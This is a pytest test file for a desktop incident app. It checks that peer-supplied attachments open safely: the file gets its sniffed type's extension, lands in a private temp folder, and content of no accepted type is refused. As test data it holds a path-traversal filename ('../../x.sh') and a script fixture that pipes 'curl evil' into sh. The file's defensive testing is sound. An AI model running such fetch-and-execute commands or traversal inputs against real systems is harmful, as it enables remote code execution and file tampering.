"""The window's *Open* of evidence that came from a peer (issue 14, finding 3): the file
handed to the system has the extension of the type its content really is, in a private
temporary folder, and content of no accepted type is never handed over. The hand-off to
the system viewer (`QDesktopServices.openUrl`) is captured instead of launching a program."""

from __future__ import annotations

import hashlib
import tempfile

import pytest
from PySide6.QtGui import QDesktopServices
from PySide6.QtWidgets import QMessageBox
from sqlalchemy import select
from uuid6 import uuid7

from posko_desktop.core.db.models import Attachment, Blob
from posko_desktop.core.services import incidents as inc
from posko_desktop.core.services import sync as svc
from posko_desktop.ui.tasks import TaskRunner
from posko_desktop.ui.widgets.detail_pane import DetailPane

from .conftest import PNG, add_incident, send
from .forge import jsonl, lines, resign


@pytest.fixture
def pane_for(qtbot, monkeypatch, tmp_path):
    """A detail pane of a site, with the system viewer captured and temporary folders made
    in the test's folder."""
    opened = []
    monkeypatch.setattr(QDesktopServices, "openUrl", opened.append)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "tmp"))
    (tmp_path / "tmp").mkdir()
    runners = []

    def make(site, incident_id):
        runners.append(TaskRunner())
        pane = DetailPane(site.ctx, runners[-1])
        qtbot.addWidget(pane)
        pane.show_incident(incident_id)
        return pane, opened

    yield make
    for runner in runners:
        runner.wait(10_000)


def _select(pane: DetailPane, filename: str) -> None:
    names = [pane.attachments.item(i).text() for i in range(pane.attachments.count())]
    row = next(i for i, text in enumerate(names) if filename in text)
    pane.attachments.setCurrentRow(row)


def test_an_imported_script_name_opens_as_the_png_it_is(sites, tmp_path, pane_for):
    prov, kab, _kota = sites
    made = add_incident(kab)
    inc.attach(kab.ctx, made.id, "bukti.png", PNG)

    def rename(m):
        rows = lines(m["records/attachments.jsonl"])
        rows[0]["filename"] = "../../x.sh"
        m["records/attachments.jsonl"] = jsonl(rows)

    path = resign(send(kab, prov, tmp_path), tmp_path / "named.posko", kab.key, members=rename)
    assert svc.import_package(prov.ctx, path).attachments_new == 1
    with prov.ctx.db.read() as s:
        assert list(s.scalars(select(Attachment.filename))) == ["x.sh"]

    pane, opened = pane_for(prov, made.id)
    _select(pane, "x.sh")
    written = pane.open_attachment()
    assert written is not None and written.read_bytes() == PNG
    assert [url.toLocalFile() for url in opened] == [str(written)]
    sha = hashlib.sha256(PNG).hexdigest()
    assert written.name == sha[:8] + "-x.png"  # the sniffed type's extension, not .sh
    folder = written.parent  # a folder of its own, for this OS user only
    assert folder.parent == tmp_path / "tmp" and folder.name.startswith("posko-")
    assert folder.stat().st_mode & 0o777 == 0o700
    assert [p.name for p in folder.iterdir()] == [written.name]


def test_content_of_no_accepted_type_is_refused_with_a_message(sites, tmp_path, pane_for):
    """Evidence stored before content was checked on import (a row of an older version):
    *Open* refuses it and hands nothing to the system."""
    prov = sites[0]
    made = add_incident(prov)
    script = b"#!/bin/sh\ncurl evil | sh\n"
    sha = hashlib.sha256(script).hexdigest()
    with prov.ctx.db.write() as s:
        s.add(Blob(sha256=sha, size=len(script), data=script))
        s.flush()  # the attachment's foreign key
        s.add(Attachment(id=uuid7(), incident_id=made.id, sha256=sha, filename="foto.png",
                         mime="image/png", size=len(script), added_by="admin-33",
                         added_at=prov.ctx.now(), origin_site="33",
                         mod_stamp="1732060800000-00000-33", deleted=False))

    pane, opened = pane_for(prov, made.id)
    _select(pane, "foto.png")
    assert pane.open_attachment() is None
    boxes = [b for b in pane.findChildren(QMessageBox) if b.objectName() == "posko_error_box"]
    assert len(boxes) == 1 and boxes[0].isVisible()
    assert "foto.png is not an image (PNG, JPEG, GIF, WebP) or a PDF" in boxes[0].text()
    assert opened == []
    assert not any(p.is_file() for p in (tmp_path / "tmp").rglob("*"))  # nothing written
